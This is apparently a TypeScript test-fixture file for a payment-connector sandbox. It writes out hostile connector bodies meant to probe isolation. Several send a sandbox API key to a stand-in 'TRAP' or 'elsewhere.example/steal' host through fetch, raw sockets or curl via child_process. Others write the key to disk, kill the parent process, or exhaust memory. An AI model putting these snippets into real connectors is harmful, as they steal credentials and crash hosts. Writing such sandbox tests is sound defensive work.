import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ConnectorManifest } from '@paycore/core';

/** Module bodies of connectors that misbehave, one per fault; `TRAP` is replaced by the trap's URL. */
export const HOSTILE = {
  good: `export default { manifest: { id: 'ID' }, async verify({ credentials }, ctx) {
    const res = await ctx.fetch(ctx.baseUrl + '/v1/account', { headers: { authorization: 'Bearer ' + credentials.apiKey } });
    if (res.status === 401) return { ok: false, reason: 'invalid_credentials', message: 'refused', retryable: false };
    return { ok: true, account: { id: (await res.json()).id } };
  } };`,
  discovers: `export default { manifest: { id: 'ID' }, async verify() { return { ok: true }; },
    async discover({ credentials }, ctx) {
      await ctx.fetch(ctx.baseUrl + '/v1/methods', { headers: { authorization: 'Bearer ' + credentials.apiKey } });
      return { paymentMethods: [{ method: 'payment_card', currencies: ['UAH'] }], payoutMethods: [] };
    } };`,
  'global-fetch': `export default { manifest: { id: 'ID' }, async verify({ credentials }) {
    await fetch('TRAP/steal?key=' + credentials.apiKey); return { ok: true };
  } };`,
  'static-http': `import http from 'node:http';
export default { manifest: { id: 'ID' }, async verify() { http.get('TRAP'); return { ok: true }; } };`,
  'dynamic-net': `export default { manifest: { id: 'ID' }, async verify({ credentials }) {
    const net = await import('node:net'); net.connect(Number(new URL('TRAP').port), '127.0.0.1').end(credentials.apiKey); return { ok: true };
  } };`,
  'require-tls': `import { createRequire } from 'node:module';
export default { manifest: { id: 'ID' }, async verify() { createRequire(import.meta.url)('tls'); return { ok: true }; } };`,
  'caught-http': `export default { manifest: { id: 'ID' }, async verify() {
    try { await import('http'); } catch {} return { ok: true };
  } };`,
  'child-process': `import { createRequire } from 'node:module';
export default { manifest: { id: 'ID' }, async verify() { createRequire(import.meta.url)('child_process').execSync('curl TRAP'); return { ok: true }; } };`,
  binding: `export default { manifest: { id: 'ID' }, async verify() { process.binding('tcp_wrap'); return { ok: true }; } };`,
  'fs-write': `import { writeFileSync } from 'node:fs';
export default { manifest: { id: 'ID' }, async verify({ credentials }) { writeFileSync('WRITE_PATH', credentials.apiKey); return { ok: true }; } };`,
  'sync-loop': `export default { manifest: { id: 'ID' }, async verify() { const end = Date.now() + 5000; while (Date.now() < end) {} return { ok: true }; } };`,
  'allocates-1gb': `export default { manifest: { id: 'ID' }, async verify() { const keep = []; for (let i = 0; i < 1024; i++) keep.push(Buffer.alloc(1024 * 1024, 1)); return { ok: true, account: { id: String(keep.length) } }; } };`,
  'heap-1gb': `export default { manifest: { id: 'ID' }, async verify() { const keep = []; for (let i = 0; i < 1e8; i++) keep.push({ i, s: 'x' + i }); return { ok: true }; } };`,
  exits: `export default { manifest: { id: 'ID' }, async verify() { process.exit(3); } };`,
  'unhandled-rejection': `export default { manifest: { id: 'ID' }, async verify() { Promise.reject(new Error('nobody catches this')); await new Promise((r) => setTimeout(r, 50)); return { ok: true }; } };`,
  'import-throws': `throw new Error('this connector cannot even be imported');`,
  'import-hangs': `await new Promise(() => {});
export default { manifest: { id: 'ID' }, async verify() { return { ok: true }; } };`,
  'import-http': `import 'node:http'; export default { manifest: { id: 'ID' }, async verify() { return { ok: true }; } };`,
  hangs: `export default { manifest: { id: 'ID' }, verify: () => new Promise(() => {}) };`,
  malformed: `export default { manifest: { id: 'ID' }, async verify() { return { ok: 'yes' }; } };`,
  'undeclared-host': '',
  kill: `export default { manifest: { id: 'ID' }, async verify() { process.kill(process.ppid, 'SIGKILL'); return { ok: true }; } };`,
} as const;

/** A fixture connector's kind. */
export type HostileKind = keyof typeof HOSTILE;

/** The secret the fixtures are given; it must never reach the trap. */
export const SECRET = 'key_SandboxSecret9Q7xLm2Zp';

/** A manifest for a fixture connector whose API is `https://api.<id>.example`. */
export function fixtureManifest(id: string): ConnectorManifest {
  const host = `api.${id}.example`;
  return {
    id,
    name: `Fixture ${id}`,
    status: 'ready',
    description: 'A connector written by someone else.',
    website: 'https://example.com',
    countries: ['UA'],
    paymentMethods: ['payment_card'],
    payoutMethods: [],
    paymentServices: [{ method: 'payment_card', currency: 'UAH' }],
    payoutServices: [],
    environments: { sandbox: { label: 'Test', baseUrl: `https://${host}`, hosts: [host] } },
    credentials: {
      version: 1,
      schema: {
        type: 'object',
        required: ['apiKey'],
        properties: {
          apiKey: {
            type: 'string',
            title: 'API key',
            pattern: '^key_[A-Za-z0-9]{16,}$',
            description: 'key_…',
            writeOnly: true,
          },
        },
      },
    },
  } as ConnectorManifest;
}

/** Writes the fixture connector package of a kind under `root`; returns what the sandbox needs. */
export function writeHostile(
  root: string,
  kind: HostileKind,
  replacements: Record<string, string>,
  id = `fx-${kind}`,
): { id: string; manifest: ConnectorManifest; packageDir: string; file: string } {
  const packageDir = join(root, id);
  mkdirSync(join(packageDir, 'dist'), { recursive: true });
  writeFileSync(join(packageDir, 'package.json'), JSON.stringify({ name: id, type: 'module' }));
  let code: string = HOSTILE[kind].replaceAll("'ID'", JSON.stringify(id));
  for (const [from, to] of Object.entries(replacements)) code = code.replaceAll(from, to);
  if (kind === 'undeclared-host')
    code = `export default { manifest: { id: ${JSON.stringify(id)} }, async verify(_input, ctx) { await ctx.fetch('https://elsewhere.example/steal'); return { ok: true }; } };`;
  const file = join(packageDir, 'dist', 'index.js');
  writeFileSync(file, code);
  return { id, manifest: fixtureManifest(id), packageDir, file };
}
